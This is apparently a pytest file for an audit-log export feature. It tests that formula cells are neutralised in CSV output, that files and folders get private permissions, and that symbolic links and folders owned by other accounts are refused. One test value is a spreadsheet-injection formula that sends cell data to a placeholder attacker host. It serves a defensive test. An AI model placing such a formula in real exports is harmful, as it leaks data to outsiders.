"""Exports are owner-only and safe to open in a spreadsheet (issue #20, findings 10 and 11)."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pandas as pd
import pytest

from audit_store import AccessLogRecord, AuditStore, FolderTooOpen, User, export_period
from audit_store.files import csv_text, write_private

OFFICER = User(name="compliance", role="compliance_officer")
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'


def test_a_formula_in_the_purpose_is_text_in_the_exported_access_log(store: AuditStore, tmp_path: Path):
    export_period(store, OFFICER, date.today(), date.today(), "csv", tmp_path / "out", purpose=HYPERLINK)
    with open(tmp_path / "out" / "access_log.csv", newline="") as f:
        purposes = [row["purpose"] for row in csv.DictReader(f)]
    assert purposes and all(p == "'" + HYPERLINK for p in purposes)


@pytest.mark.parametrize(
    "cell, written",
    [
        ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
        ("\uff1dcmd", "'\uff1dcmd"), ("a=b", "a=b"), ("billing", "billing"),
    ],
)  # fmt: skip
def test_csv_cells_that_start_a_formula_are_neutralised(cell: str, written: str):
    df = pd.DataFrame({"text": [cell], "number": [-1.5]})
    row = next(csv.DictReader(io.StringIO(csv_text(df), newline="")))
    assert row == {"text": written, "number": "-1.5"}  # numbers are not text cells


def test_export_files_are_0600_in_a_0700_folder(store: AuditStore, tmp_path: Path):
    result = export_period(store, OFFICER, date.today(), date.today(), "parquet", tmp_path / "a" / "out")
    assert oct((tmp_path / "a").stat().st_mode)[-3:] == "700" and oct(result.directory.stat().st_mode)[-3:] == "700"
    assert all(oct(p.stat().st_mode)[-3:] == "600" for p in result.directory.iterdir())


def test_an_export_folder_others_can_read_is_refused_before_the_export_is_logged(store: AuditStore, tmp_path: Path):
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o755)
    with pytest.raises(FolderTooOpen, match="mode 0755"):
        export_period(store, OFFICER, date.today(), date.today(), "csv", shared)
    assert list(shared.iterdir()) == [] and oct(shared.stat().st_mode)[-3:] == "755"
    assert store.count(AccessLogRecord) == 0


def test_write_private_refuses_a_symbolic_link(tmp_path: Path):
    (tmp_path / "target").write_text("keep")
    (tmp_path / "link").symlink_to(tmp_path / "target")
    with pytest.raises(OSError):
        write_private(tmp_path / "link", "x")
    assert (tmp_path / "target").read_text() == "keep"


def test_a_private_folder_of_another_account_is_refused(tmp_path: Path):
    """An export written into another account's 0700 folder is theirs to read: an administrator
    running as root writes into any folder, so the mode alone does not make it private."""
    import os

    from audit_store.files import private_folder

    if os.geteuid() != 0:
        pytest.skip("needs root to make a folder another account owns")
    theirs = tmp_path / "theirs"
    theirs.mkdir(mode=0o700)
    os.chown(theirs, 65534, 65534)  # nobody
    with pytest.raises(FolderTooOpen, match=r"belongs to another account \(.nobody., uid 65534\)"):
        private_folder(theirs, "export folder")
    mine = tmp_path / "mine"
    assert private_folder(mine, "export folder") == mine and private_folder(mine, "export folder") == mine  # created, then accepted
